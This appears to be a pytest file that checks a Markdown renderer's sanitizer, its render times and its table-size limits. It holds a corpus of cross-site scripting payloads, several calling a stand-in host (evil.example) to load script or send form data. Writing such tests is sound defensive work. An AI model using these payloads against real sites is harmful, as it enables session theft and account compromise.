"""User Markdown: a corpus of attacks, read as browsers read it, and time that grows as the text."""

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pilot.core.text import (
    CELLS_MOST,
    COLUMNS_MOST,
    MARKDOWN_MAX,
    holds_large_table,
    render_markdown,
)

pytestmark = pytest.mark.one_database

CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    '<https://example.org/" onmouseover="alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=csrf_token></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example/x.swf></object>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p id=innhold class=pr-top>x</p>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "\x00<script\x00>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x/onclick=alert(1)>click",
]
TAGS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h3", "h4", "h5", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {"a": {"href", "title", "rel"}}
SCHEMES = ("http://", "https://", "mailto:")


def faults(html: str) -> list[str]:
    """Every element, attribute and address that has no business in what a person wrote."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    found = []
    for element in tree.iter():
        if element is tree:
            continue
        if element.tag not in TAGS:
            found.append(f"<{element.tag}>")
        extra = set(element.attrib) - ATTRIBUTES.get(str(element.tag), set())
        found += [f"{element.tag} {name}" for name in extra]
        href = element.get("href")
        if href is not None and not href.startswith(SCHEMES):
            found.append(f"href={href}")
    return found


def test_the_corpus_is_as_large_as_promised():
    assert len(set(CORPUS)) >= 28


@pytest.mark.parametrize("attack", CORPUS)
def test_attacks_come_out_harmless(attack):
    assert faults(render_markdown(attack)) == []


def test_the_judge_can_see_a_fault():
    """The check above is worth what it finds."""
    assert all(faults(attack) for attack in CORPUS[:9])


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("**viktig**", "<strong>viktig</strong>"),
        ("# Overskrift", "<h3>Overskrift</h3>"),
        ("###### Liten", "<h5>Liten</h5>"),
        ("- ett\n- to", "<li>ett</li>"),
        ("[KS](https://www.ks.no)", 'href="https://www.ks.no"'),
        ("a | b\n--|--\n1 | 2", "<td>1</td>"),
        ("~~strøket~~", "<s>strøket</s>"),
        ("5 < 6", "5 &lt; 6"),
    ],
)
def test_what_people_write_is_shown(written, shown):
    assert shown in render_markdown(written)


def test_links_say_they_come_from_a_user():
    assert 'rel="noopener nofollow ugc"' in render_markdown("[x](https://example.org)")


@pytest.mark.parametrize(
    "unit", ["[", "![", "[a](", "*", "**a ", "`", "> ", "- ", "<", "_a", "](", "|a"]
)
def test_time_grows_as_the_text(linear, unit):
    linear(lambda n: render_markdown((unit * n)[:n]), 5_000, MARKDOWN_MAX)


# --- tables ----------------------------------------------------------------------------------

WIDE = "|a" * 3_300 + "\n" + "|-" * 3_300 + "\n" + "|a" * 3_300
FILLED_UP = "|a" * 12 + "\n" + "|-" * 12 + "\n" + "a\n" * 9_900  # each row has twelve cells
TABLES = {
    "wide": WIDE,
    "filled up": FILLED_UP,
    "many": "a|b\n-|-\n1|2\n\n" * 1_200,
    "quoted": "> " + FILLED_UP.replace("\n", "\n> "),
    "in a list": "- " + FILLED_UP.replace("\n", "\n  "),
    "one column": "|a\n:-\n" + "a\n" * 6_000,
    "with spaces": FILLED_UP.replace("|-", "| - "),
    "aligned": FILLED_UP.replace("|-", "|:-:"),
}


@pytest.mark.parametrize("name", TABLES)
def test_a_table_of_thousands_of_cells_is_not_drawn(name):
    text = TABLES[name][:MARKDOWN_MAX]
    assert holds_large_table(text)
    assert len(render_markdown(text)) < 5 * len(text)


@pytest.mark.parametrize("columns", [1, 2, COLUMNS_MOST])
@pytest.mark.parametrize("ends", ["", "|"])
def test_a_table_that_people_write_is_drawn(columns, ends):
    def line(cell: str) -> str:
        return ends + "|".join([cell] * columns) + (ends or ("|" if columns == 1 else ""))

    rows = min(50, CELLS_MOST // columns - 1)
    text = "\n".join([line("navn"), line("---"), *[line("1")] * rows])
    assert not holds_large_table(text)
    assert render_markdown(text).count("<td>") == rows * columns


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(["|", "-", ":", " ", ">", "a", "\n", "- ", "\n\n"]), max_size=60))
def test_every_cell_is_counted(signs):
    """What is drawn never has more cells than what was counted, however it is written."""
    text = "".join(signs)
    drawn = render_markdown(text * 40)
    assert drawn.count("<td>") + drawn.count("<th>") <= CELLS_MOST
